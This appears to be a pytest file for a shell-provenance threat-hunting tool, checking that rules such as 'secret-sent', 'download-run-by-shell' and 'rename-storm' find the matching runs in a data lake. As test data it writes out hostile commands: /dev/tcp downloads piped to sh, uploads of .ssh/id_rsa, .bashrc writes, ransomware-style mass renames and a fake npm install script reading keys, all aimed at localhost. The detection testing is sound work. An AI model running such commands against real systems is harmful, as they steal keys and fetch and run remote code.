"""`hunt --lake` finds in a lake what `hunt` finds in the stores that were shipped to it."""

from __future__ import annotations

import json
import random
import re
import shutil
from dataclasses import replace
from pathlib import Path

from conftest import PACKAGE, Machine, answer, command
from hunter import Hunter, essence, random_rule, server, written

from backstory_lake.privacy import Config


def lines(choice: random.Random, port: int, count: int) -> list[str]:
    """Lines of the shell, of which some do what the program's rules look for."""
    download = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; cat <&3'"
    upload = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; cat >&3'"
    forms = [
        "echo x >> .bashrc",
        "mkdir -p .ssh; echo k > .ssh/id_rsa",
        f"cat .ssh/id_rsa | {upload}",
        f"{download} | sh",
        f"{download} > got.sh; sh got.sh",
        "for i in $(seq 25); do echo x > doc$i; done",
        "for i in $(seq 25); do mv doc$i doc$i.locked; done",
        f"{upload} < in; rm in",
        "echo b > in; echo 'a b' > 'a \"b\" c'; cat 'a \"b\" c' > $(printf 'x\\377')",
        "mkdir -p d; ln -sfn d l; echo x > d/t; cat l/t > out; cat d/t",
        "ln -f in in2; cat in2 >> out; printf 'tab\\there' > out",
        "cat out > last",
    ]
    drawn = forms + choice.choices(forms, k=count - len(forms))
    return [f"{line} 2>/dev/null" for line in drawn]


def test_what_hunt_finds_in_stores_it_finds_in_their_lake(
    machine: Machine, lake: Path, hunter: Hunter, tmp_path: Path
) -> None:
    choice = random.Random(7)
    other = Machine(tmp_path / "other")
    (other.directory / "in").write_text("x\n")
    with server() as port:
        for line in lines(choice, port, 16):
            machine.record(line)
            if choice.random() < 0.3:
                other.record(line)
            if line.startswith("ln") or choice.random() < 0.2:
                # No recorded run explains it.
                (machine.directory / "out").write_text(f"outside {choice.random()}")
    rules = written([random_rule(choice, at) for at in range(80)], tmp_path / "rules")
    for one in (machine, other):
        one.ship(lake)
    words = ["hunt", "--rules", rules]
    expected = []
    for one in (machine, other):
        expected += hunter.found(*words, "--all", store=one.store)
    found = hunter.found(*words, "--lake", str(lake))
    assert essence(found) == essence(expected)
    matched = {one["rule"] for one in expected}
    own = {"startup-file-written", "secret-sent", "rename-storm", "output-changed-outside"}
    assert own <= matched and len(matched) > 20, matched
    places = set(answer(lake, "SELECT run, machine, host FROM runs"))
    assert {(one["run"], one["machine"], one["host"]) for one in found} <= places
    # Both machines of this test have one host name, so a text names the machine, too.
    text = hunter.run(*words, "--lake", str(lake), "--full").stdout
    assert re.search(r"run \w{8} of \S+ \(machine \S+\)", text)
    for subject in (str(machine.directory / "out"), str(other.directory), "127.0.0.1"):
        expected = []
        for one in (machine, other):
            ended = hunter.run("timeline", subject, "--json", store=one.store)
            expected += json.loads(ended.stdout or "[]")
        events = hunter.found("timeline", subject, "--lake", str(lake))
        assert essence(events) == essence(expected) and events, subject


SERVER = """
import socket, subprocess, sys
listener = socket.create_server(("127.0.0.1", 0))
client = socket.create_connection(listener.getsockname())
peer, _ = listener.accept()
if sys.argv[1] == "before": subprocess.run(["sh", "-c", "true"])
client.sendall(b"x")
peer.recv(1)
if sys.argv[1] == "after": subprocess.run(["sh", "-c", "true"])
"""
NPM = "#!/bin/sh\ncase $1 in install) sh package/$2.sh ;; esac\n"


def cases(port: int) -> dict[str, tuple[str, str]]:
    """For each rule of the program a line of the shell that it finds, and a harmless one like it.

    The lines of a rule follow each other.
    """
    download = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; cat <&3'"
    upload = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; cat >&3'"
    documents = "for i in $(seq 25); do {}; done"
    return {
        "startup-file-written": ("echo x >> .bashrc", "echo x >> bashrc; cat .bashrc"),
        "download-run-by-shell": (f"{download} | sh", f"{download} | cat"),
        "secret-sent": (f"{upload} < .ssh/id_rsa", f"{upload} < .ssh/id_rsa.pub"),
        "shell-started-by-server": ("python3 server.py after", "python3 server.py before"),
        "build-input-from-network": (
            f"{download} > x.h; cp x.h y.c; ./cc1 y.c",
            f"{download} > x.h; ./cc1 z.c",
        ),
        "install-script-reads-keys": ("./npm install bad", "./npm install good"),
        "deleted-after-sent": (f"{upload} < in; rm in", f"{upload} < kept; rm other"),
        "rename-storm": (
            documents.format("mv doc$i doc$i.locked"),
            documents.format("mv doc$i.locked text$i"),
        ),
    }


def test_each_rule_of_the_program_finds_its_cases_though_other_runs_are_not_read(
    machine: Machine, lake: Path, hunter: Hunter
) -> None:
    for name, text in {
        "server.py": SERVER,
        "npm": NPM,
        "package/bad.sh": "cat .ssh/id_rsa > /dev/null\n",
        "package/good.sh": "cat .ssh/known_hosts > /dev/null\n",
        ".ssh/id_rsa": "secret\n",
        ".ssh/id_rsa.pub": "public\n",
        ".ssh/known_hosts": "hosts\n",
        "kept": "x\n",
        "other": "x\n",
        "z.c": "\n",
        **{f"doc{at}": "x\n" for at in range(1, 26)},
    }.items():
        file = machine.directory / name
        file.parent.mkdir(exist_ok=True)
        file.write_text(text)
    (machine.directory / "npm").chmod(0o755)
    # The program that a compiler's name stands for reads its argument.
    shutil.copy(shutil.which("cat") or "/bin/cat", machine.directory / "cc1")
    runs: dict[str, str] = {}
    with server() as port:
        for rule, lines in cases(port).items():
            runs[rule], _ = (machine.record(f"{line} 2>/dev/null") for line in lines)
    machine.record("sort kept > sorted")
    (machine.directory / "sorted").write_text("changed outside of all recordings\n")
    runs["output-changed-outside"] = machine.record("cat sorted")
    machine.ship(lake)
    listed = json.loads(hunter.run("hunt", "--list", "--json").stdout)
    assert sorted(runs) == sorted(one["rule"] for one in listed)
    for rule, run in runs.items():
        words = ["hunt", "--lake", str(lake), "--rule", rule]
        request = hunter.request(*words)
        every = hunter.answered(lake, replace(request, condition="true"), *words)
        found = hunter.answered(lake, request, *words)
        assert found == every and {json.loads(one)["run"] for one in found} == {run}, rule
        assert hunter.chosen[1] < hunter.chosen[0], rule


def test_erased_and_private_names_are_in_no_finding(
    machine: Machine, lake: Path, hunter: Hunter, tmp_path: Path
) -> None:
    machine.record("mkdir -p .ssh; ln -s .ssh open; echo x > .ssh/rc; cat open/rc; echo > .bashrc")
    gone = machine.record("echo y > .bashrc")
    key = tmp_path / "key"
    key.write_text("0123456789abcdef")
    config = Config(hashed=[f"{machine.directory}/.ssh/**"], key=key.read_bytes())
    machine.ship(lake, config=config)
    words = ["hunt", "--lake", str(lake), "--rule", "startup-file-written"]
    found = hunter.found(*words)
    assert {Path(one["steps"][0]["target"]).name for one in found} == {".bashrc"}
    assert len(found) == 2
    assert "rc'" not in json.dumps(found) and "/rc" not in json.dumps(found)
    names = answer(lake, "SELECT aliases FROM files WHERE aliases <> ''")
    assert all("rc" not in text for (text,) in names)
    assert command("forget", "--lake", str(lake), gone).returncode == 0
    assert gone not in [one["run"] for one in hunter.found(*words)]


def test_the_guides_question_has_the_addresses_of_exfil_and_origin(
    machine: Machine, lake: Path, hunter: Hunter
) -> None:
    with server() as port:
        connect = f"exec 3<>/dev/tcp/127.0.0.1/{port}"
        machine.record("cp in copy; gzip < copy > packed")
        machine.record(f"bash -c '{connect}; cat >&3' < packed")
        machine.record(f"bash -c '{connect}; cat <&3' > got; sort got > report")
    machine.ship(lake)
    guide = (PACKAGE.parent / "docs/howto/lake.md").read_text()
    sql = next(one for one in guide.split("```sql\n") if "AS address" in one).split(";\n")[0]
    back = sql.replace("'forth'", "'back'").replace("l.to_file", "l.from_file")
    back = back.replace("p.process = l.from_process", "p.process = l.to_process")
    for asked, question, name in (("exfil", sql, "in"), ("origin", back, "report")):
        path = str(machine.directory / name)
        expected = {one["address"] for one in hunter.found(asked, path, store=machine.store)}
        found = answer(lake, question.replace("/home/ann/plan", path))
        assert {row[0] for row in found} == expected == {f"tcp:127.0.0.1:{port}"}
